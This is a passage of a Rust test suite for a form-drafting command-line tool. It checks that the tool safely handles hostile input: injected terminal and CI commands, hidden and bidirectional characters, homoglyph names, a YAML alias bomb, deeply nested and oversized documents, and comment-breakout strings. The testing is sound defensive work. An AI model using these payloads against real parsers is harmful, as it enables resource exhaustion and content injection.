            format!("form: trip\nvalues: {{ {quoted}: [{{ {quoted}: x }}] }}\n"),
            format!("form: trip\nvalues: {{ {quoted}: x, {quoted}: x }}\n"),
            format!("form: trip\nvalues: {{ name: &{command} x }}\n"),
            format!("form: trip\nvalues: {{ name: *{command} }}\n"),
            format!("form: trip\nvalues: {{ name: \"{command}\n"),
        ];
        for text in texts {
            for rest in
                [&["--rejects", "bad"][..], &["-o", "out"], &["--rejects", "bad", "--show-values"]]
            {
                let run = fed(
                    &folder,
                    &[&["draft", "-", "--from", "yaml"], rest].concat(),
                    text.as_bytes(),
                );
                if rest.contains(&"--show-values") {
                    // What is shown is shown with its line's number before it.
                    assert!(
                        !run.stderr.contains(|char: char| char.is_control() && char != '\n'),
                        "{:?}",
                        run.stderr
                    );
                    let obeyed =
                        run.stderr.lines().find(|line| line.trim_start().starts_with("::"));
                    assert_eq!(obeyed, None, "{}", run.stderr);
                } else {
                    is_tame(&run.stderr);
                }
            }
        }
        let heading = format!("form,name,\"{command}\"\ntrip,Ann,x\n");
        let dotted = format!("form,name,\"{command}.x\"\ntrip,Ann,x\n");
        let part = format!("form,name,\"room.1.{command}\"\ntrip,Ann,x\n");
        for text in [heading, dotted, part] {
            let run =
                fed(&folder, &["draft", "-", "--from", "csv", "--rejects", "bad"], text.as_bytes());
            // A column that is no field's stops the run; what is in a row loses the row.
            assert!([1, 2].contains(&run.code), "{}", run.stderr);
            is_tame(&run.stderr);
        }
        let line = format!(
            "{{\"form\": \"trip\", \"values\": {{{quoted}: [], \"name\": {quoted}, \"seats\": {quoted}}}}}\n{{{quoted}\n"
        );
        is_tame(
            &fed(&folder, &["draft", "-", "--from", "jsonl", "--rejects", "bad"], line.as_bytes())
                .stderr,
        );
    }
}

#[test]
#[cfg(unix)]
fn names_of_files_are_reported_without_commands() {
    for command in COMMANDS {
        let folder = desk();
        let name = format!("{command}.yaml").replace('/', "-");
        folder.write(&name, document("r", "en-US", &[]));
        is_tame(&folder.docent(&["draft", &name]).stderr);
        is_tame(&folder.docent(&["draft", &name, "-o", "out"]).stderr);
        is_tame(&folder.docent(&["draft", &format!("absent {name}")]).stderr);
    }
}

#[test]
fn drafts_hold_no_commands_for_terminals() {
    for command in COMMANDS {
        for format in ["text", "md", "html", "eml", "json"] {
            let out = drafted(format, &[("name", "Ann"), ("remarks", command)]);
            let wild = |char: char| char.is_control() && !"\n\r".contains(char);
            assert!(!out.contains(wild), "{out:?}");
            assert!(out.lines().all(|line| !line.trim_start().starts_with("::")), "{out}");
        }
        is_tame(&drafted("text", &[("name", "Ann"), ("remarks", command)]).replace("##", "#"));
    }
}

// Characters that nobody sees.

#[test]
fn hidden_characters_are_removed_and_named() {
    let hidden = [
        '\u{0}',
        '\u{1}',
        '\u{7}',
        '\u{8}',
        '\u{1b}',
        '\u{1f}',
        '\u{7f}',
        '\u{80}',
        '\u{9b}',
        '\u{9f}',
        '\u{ad}',
        '\u{200b}',
        '\u{200e}',
        '\u{200f}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2061}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{206a}',
        '\u{206f}',
        '\u{feff}',
        '\u{fff9}',
        '\u{fffb}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{e007f}',
    ];
    let folder = desk();
    for char in hidden {
        for field in ["name", "remarks"] {
            let answer = format!("An{char}ne");
            let answers = if field == "name" {
                vec![("name", &*answer)]
            } else {
                vec![("name", "Ann"), ("remarks", &*answer)]
            };
            let line = serde_json::json!({
                "form": "trip", "values": answers.into_iter().collect::<std::collections::BTreeMap<_, _>>()
            });
            let run =
                fed(&folder, &["draft", "-", "--from", "jsonl"], format!("{line}\n").as_bytes());
            let point = format!("U+{:04X}", u32::from(char));
            gives(&run, 0);
            assert!(run.stdout.contains(": Anne\n"), "{point}: {:?}", run.stdout);
            assert!(run.stderr.contains(&point), "{point}: {}", run.stderr);
            assert!(run.stderr.contains("warning["), "{point}: {}", run.stderr);
        }
    }
}

#[test]
fn joiners_that_letters_need_stay() {
    for word in ["می‌خواهم", "क्‍ष", "ශ්‍රී", "👩‍👩‍👧", "🏳️‍🌈"]
    {
        let folder = desk();
        folder.write("r.yaml", document("r", "en-US", &[("name", "Ann"), ("remarks", word)]));
        let run = folder.docent(&["draft", "r.yaml"]);
        assert_eq!((run.code, &*run.stderr), (0, ""), "{word}");
        assert!(run.stdout.contains(&format!("Remarks: {word}\n")), "{word}");
    }
}

#[test]
fn a_word_of_two_alphabets_is_warned_of() {
    let folder = desk();
    for (name, mixed) in [
        ("Contоso", true),
        ("Контора Contoso", false),
        ("株式会社Contoso", false),
        ("pаypal", true),
    ] {
        folder.write("r.yaml", document("r", "en-US", &[("name", name)]));
        let run = folder.docent(&["draft", "r.yaml"]);
        gives(&run, 0);
        assert_eq!(run.stderr.contains("warning["), mixed, "{name}: {}", run.stderr);
    }
}

// Too much.

/// Seconds of work and 2 GiB of memory, after which the system ends a run with a signal.
const LIMITS: &str = "ulimit -t 20; ulimit -v 2097152 2>/dev/null";

/// Drafts a file between two sound ones, which must be drafted all the same; answers the report.
#[track_caller]
fn answered(input: &str, evil: &str) -> Run {
    let folder = desk();
    let row = |id: &str| match input {
        "yaml" => document(id, "en-US", &[("name", "Ann")]),
        _ => {
            format!("{{\"form\": \"trip\", \"id\": \"{id}\", \"values\": {{\"name\": \"Ann\"}}}}\n")
        }
    };
    folder.write(&format!("r.{input}"), row("a") + evil + &row("b"));
    let run = run_after(folder.path(), LIMITS, &["draft", &format!("r.{input}"), "-o", "out"]);
    gives(&run, 1);
    assert!(
        run.stderr.contains("2 drafted + 0 rejected")
            || run.stderr.contains("= 2 drafted + 1 rejected"),
        "{:.2000}",
        run.stderr
    );
    for id in ["a", "b"] {
        assert!(folder.path().join(format!("out/{id}.txt")).exists());
    }
    run
}

#[track_caller]
fn says(run: &Run, words: &str) {
    assert!(run.stderr.contains(words), "{words} is not in:\n{:.4000}", run.stderr);
}

#[test]
fn bombs_of_aliases_are_refused() {
    let mut bomb = "---\nform: trip\na: &a [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for pair in "abcdefghij".as_bytes().windows(2) {
        let (old, new) = (char::from(pair[0]), char::from(pair[1]));
        bomb.push_str(&format!("{new}: &{new} [{}]\n", format!("*{old}, ").repeat(9)));
    }
    says(&answered("yaml", &bomb), "error[yaml-alias]");
    says(&answered("yaml", "---\nform: trip\nvalues: &a\n  name: *a\n"), "error[yaml-alias]");
    says(
        &answered("yaml", "---\nform: trip\nvalues:\n  <<: &a { name: x }\n"),
        "error[yaml-alias]",
    );
}

#[test]
fn documents_too_deep_are_refused() {
    for open in ["{a: ", "[", "- ", "? ", "{? ", "a:\n "] {
        says(&answered("yaml", &format!("---\n{}\n", open.repeat(16_000))), "error[");
    }
}

#[test]
fn objects_too_deep_are_refused() {
    for open in ["{\"a\":", "[", "{\"values\":{\"name\":[[", "[{\"a\":"] {
        says(&answered("jsonl", &format!("{}\n", open.repeat(16_000))), "error[");
    }
    let closed = format!(
        "{{\"form\": \"trip\", \"values\": {{\"name\": {}{}}}}}\n",
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    says(&answered("jsonl", &closed), "error[");
}

#[test]
fn answers_of_ten_megabytes_are_refused() {
    let long = "x".repeat(10 << 20);
    says(&answered("yaml", &document("l", "en-US", &[("name", &long)])), "error[too-large]");
    says(
        &answered(
            "jsonl",
            &format!("{{\"form\": \"trip\", \"values\": {{\"name\": \"{long}\"}}}}\n"),
        ),
        "error[too-large]",
    );
    says(&answered("jsonl", &format!("{long}\n")), "error[too-large]");
}

#[test]
fn records_of_very_many_unknown_fields_are_answered() {
    let keys = |quote: &str| {
        let keys: Vec<_> = (0..60_000).map(|at| format!("{quote}k{at:05}{quote}: 1")).collect();
        keys.join(", ")
    };
    let object = format!(
        "{{\"form\": \"trip\", \"id\": \"m\", \"values\": {{{}, \"name\": \"Ann\"}}}}\n",
        keys("\"")
    );
    says(&answered("jsonl", &object), "error[unknown-field]");
    let mapping = format!("---\nform: trip\nid: m\nvalues: {{ {}, name: Ann }}\n", keys(""));
    says(&answered("yaml", &mapping), "error[unknown-field]");
}

#[test]
fn a_spreadsheet_of_very_many_columns_is_answered() {
    let folder = desk();
    let heading = format!("form,name{}\n", ",".repeat(500_000));
    folder.write("r.csv", format!("{heading}trip,Ann{}\n", ",".repeat(500_000)));
    gives(&run_after(folder.path(), LIMITS, &["draft", "r.csv"]), 0);
    let unknown: Vec<_> = (0..50_000).map(|at| format!("k{at:05}")).collect();
    folder.write("r.csv", format!("form,name,{}\ntrip,Ann\n", unknown.join(",")));
    gives(&run_after(folder.path(), LIMITS, &["draft", "r.csv"]), 2);
}

#[test]
fn an_answer_of_very_many_hidden_characters_is_answered() {
    let hidden = "\u{200b}\u{202e}".repeat(100_000);
    let folder = desk();
    let line = format!("{{\"form\": \"trip\", \"values\": {{\"name\": \"A{hidden}nn\"}}}}\n");
    folder.write("r.jsonl", line);
    let run = run_after(folder.path(), LIMITS, &["draft", "r.jsonl"]);
    gives(&run, 0);
    assert!(run.stdout.contains("Name: Ann\n"));
    assert!(run.stderr.len() < 20_000, "a report of {} bytes", run.stderr.len());
}

// Rejects.

/// The documents of a stream, by another reader of YAML.
fn documents(text: &str) -> Vec<serde_yaml::Value> {
    use serde::Deserialize;
    let document = |document| serde_yaml::Value::deserialize(document).expect("YAML");
    serde_yaml::Deserializer::from_str(text)
        .map(document)
        .filter(|value| !value.is_null())
        .collect()
}

/// Rejects documents and reads the rejects back: they must be the same documents.
#[track_caller]
fn comes_back(text: &str) -> Folder {
    let folder = desk();
    folder.write("r.yaml", text);
    gives(&folder.docent(&["draft", "r.yaml", "--rejects", "once.yaml"]), 1);
    let once = folder.read("once.yaml");
    assert_eq!(documents(&once), documents(text), "{once}");
    gives(&folder.docent(&["draft", "once.yaml", "--rejects", "twice.yaml"]), 1);
    assert_eq!(folder.read("twice.yaml"), once);
    folder
}

#[test]
fn nothing_breaks_out_of_comments() {
    let evil = "x\n---\nform: trip\nid: evil\nvalues: { name: Eve }\n#";
    for end in BREAKS {
        let evil = quoted(&evil.replace('\n', end));
        for text in [
            format!("form: trip\nvalues:\n  {evil}: [1]\n"),
            format!("form: trip\nvalues:\n  {evil}: x\n"),
            format!("form: trip\n{evil}: x\n"),
            format!("form: {evil}\n"),
            format!("form: trip\nlocale: {evil}\nvalues: {{}}\n"),
            format!("form: trip\nparts: [{evil}]\nvalues: {{}}\n"),
            format!("form: trip\nid: [{evil}]\nvalues: {{}}\n"),
            format!("form: trip\nid: {evil}\nvalues: {{ name: {evil}, seats: {evil} }}\n"),
            format!(
                "form: trip\nparts: [room]\nvalues:\n  name: Ann\n  room: [{{ {evil}: [x] }}]\n"
            ),
        ] {
            let folder = comes_back(&text);
            let once = folder.read("once.yaml");
            let comments: Vec<_> =
                once.lines().skip(1).take_while(|line| line.starts_with("# ! ")).collect();
            assert!(!comments.is_empty(), "{once}");
            assert!(
                comments.iter().all(|line| !line
                    .contains(|char: char| char.is_control() || "\u{2028}\u{2029}".contains(char))),
                "{once:?}"
            );
        }
    }
}

#[test]
fn problems_in_several_lines_stay_in_their_comments() {
    let folder = desk();
    let words = folder.read("locales/en-US/trip.ftl").replace(
        "seats = Seats\n",
        "seats = Seats\n    .integer =\n        Not a number.\n        ---\n        form: trip\n",
    );
    folder.write("locales/en-US/trip.ftl", words);
    folder.write("r.yaml", document("r", "en-US", &[("name", "Ann"), ("seats", "none")]));
    gives(&folder.docent(&["draft", "r.yaml", "--rejects", "once.yaml"]), 1);
    let once = folder.read("once.yaml");
    assert!(once.starts_with("---\n# ! seats: Not a number. --- form: trip\nform: "), "{once}");
    assert_eq!(documents(&once), documents(&folder.read("r.yaml")), "{once}");
    let block = "--- r (trip 7, en-US)\n\nName: Ann\nSeats: none\n";
    let run = fed(&folder, &["read"], block.as_bytes());
    gives(&run, 1);
    assert_eq!(documents(&run.stdout), documents(&folder.read("r.yaml")), "{}", run.stdout);
}

#[test]
fn a_label_that_is_twice_in_a_mail_is_reported() {
    let folder = desk();
    let block = "--- r (trip 7, en-US)\n\nName: Ann\nSeats: 1\nSeats: 2\n";
    let run = fed(&folder, &["read"], block.as_bytes());
    gives(&run, 1);
    says(&run, "error[duplicate-key]");
    says(&run, "Keep only one of the two answers for “");
    says(&run, ":4:1");
    says(&run, ":5:1");
    assert!(run.stdout.contains("#   Seats: 2\n"), "{}", run.stdout);
}

const BAD: &str = "form: trip\nvalues:\n  seats: none\n";

#[test]
fn rejected_documents_come_back_as_they_were() {
    comes_back(&format!("{BAD}  remarks: |\n    # ! one\n    --- two\n    ...\n"));
    comes_back(&format!("{BAD}  # A note.\n---\n---\n{BAD}"));
    comes_back("{ form: trip, values: { seats: none } }");
    // The other reader takes no mark before a text.
    let marked = desk();
    marked.write("r.yaml", format!("\u{feff}{BAD}"));
    gives(&marked.docent(&["draft", "r.yaml", "--rejects", "once.yaml"]), 1);
    assert_eq!(documents(&marked.read("once.yaml")), documents(BAD));
}

#[test]
fn rejected_documents_with_directives_come_back_as_they_were() {
    comes_back(&format!("%YAML 1.2\n---\n{BAD}...\n---\n{BAD}"));
    comes_back(&format!("{BAD}...\n%YAML 1.2\n---\n{BAD}"));
}

#[test]
fn rejected_documents_on_the_line_of_their_marker_come_back_as_they_were() {
    comes_back(
        "--- { form: trip, values: { seats: none } }\n--- { form: trip, values: { seats: never } }\n",
    );
}

#[test]
fn rejected_documents_with_windows_line_ends_come_back_as_they_were() {
    comes_back(&format!("---\n{BAD}---\n{BAD}").replace('\n', "\r\n"));
}

#[test]
fn comments_above_a_document_stay_with_it() {
    let folder = comes_back("# Mine.\n---\nform: trip\nvalues: { seats: none }\n");
    assert!(folder.read("twice.yaml").contains("# Mine.\n"));
}

#[test]
fn lines_of_an_answer_that_look_like_docents_comments_stay() {
    comes_back("form: trip\nvalues:\n  seats: none\n  remarks: \"one\n# ! two\n  three\"\n");
}

#[test]
fn rejected_lines_of_json_come_back_as_they_were() {
    let folder = desk();
    let text = "{\"form\": \"trip\", \"values\": {\"seats\": \"# ! \\n# x\", \"_problems\": 1}}\n{\"form\": \"trip\", \"_problems\": [\"forged\"], \"values\": {}}\n# ! not a request\n[]\n{\"form\n";
    folder.write("r.jsonl", text);
    gives(&folder.docent(&["draft", "r.jsonl", "--rejects", "once.jsonl"]), 1);
    let once = folder.read("once.jsonl");
    assert_eq!(once.matches("forged").count(), 0, "{once}");
    let objects: Vec<serde_json::Value> =
        once.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
    assert_eq!(objects.len(), 3, "{once}");
    assert_eq!(objects[0]["values"], serde_json::json!({"seats": "# ! \n# x", "_problems": 1}));
    assert_eq!(
        objects[0].as_object().and_then(|object| object.keys().next()).map(String::as_str),
        Some("_problems")
    );
    assert!(once.contains("\n{\"form\n"), "{once}");
    gives(&folder.docent(&["draft", "once.jsonl", "--rejects", "twice.jsonl"]), 1);
    assert_eq!(folder.read("twice.jsonl"), once);
}
